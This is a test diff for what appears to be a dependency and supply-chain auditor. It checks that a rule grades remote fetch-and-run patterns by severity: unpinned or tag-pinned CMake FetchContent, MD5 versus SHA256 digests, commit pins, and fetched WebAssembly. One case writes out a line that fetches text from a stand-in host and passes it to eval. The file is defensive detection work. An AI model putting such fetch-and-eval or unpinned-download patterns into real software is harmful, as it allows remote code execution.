@@ -142,6 +142,27 @@ describe("rules of contents", () => {
     expect(fired || isSaid === true, JSON.stringify(rules.find(({ rule }) => rule === "flow/opaque-runs"))).toBe(true)
   })
 
+  const declared = (pin: string): string =>
+    `include(FetchContent)\nFetchContent_Declare(x ${pin})\nfile(DOWNLOAD https://a.example.org/t t)\n`
+  const commit = "0123456789abcdef0123456789abcdef01234567"
+  it.each<[string, string, string, string]>([
+    ["has no pin", "CMakeLists.txt", declared("URL https://a.example.org/x.tgz"), "review"],
+    ["is a tag, which moves", "CMakeLists.txt", declared("GIT_REPOSITORY https://a.example.org/x GIT_TAG v1.0"), "review"],
+    [
+      "has a digest that can be met",
+      "CMakeLists.txt",
+      declared(`URL https://a.example.org/x.tgz URL_HASH MD5=${"0".repeat(32)}`),
+      "review",
+    ],
+    ["has a digest", "CMakeLists.txt", declared(`URL https://a.example.org/x.tgz URL_HASH SHA256=${"0".repeat(64)}`), "note"],
+    ["is a commit", "CMakeLists.txt", declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG ${commit}`), "note"],
+    ["becomes WebAssembly", "lib/a.js", "WebAssembly.instantiateStreaming(fetch('https://a.example.org/x.wasm'))\n", "note"],
+    ["becomes text", "lib/a.js", "fetch('https://a.example.org/x').then((x) => x.text()).then((x) => eval(x))\n", "review"],
+  ])("of what is fetched and run, and %s", async (_, path, of, severity) => {
+    const { findings } = await audited(sample({ [path]: of }, { [path]: of }))
+    expect(findings.filter(({ rule }) => rule === "flow/fetched-runs").map((found) => found.severity)).toEqual([severity])
+  })
+
   it("says of what needs a commit, or the release before, that it could not look", async () => {
     const { rules } = await audited(sample({ "a.c": main }, { "a.c": main }))
     expect(rules.find(({ rule }) => rule === "capability/added")?.outcome).toBe("not-assessed")
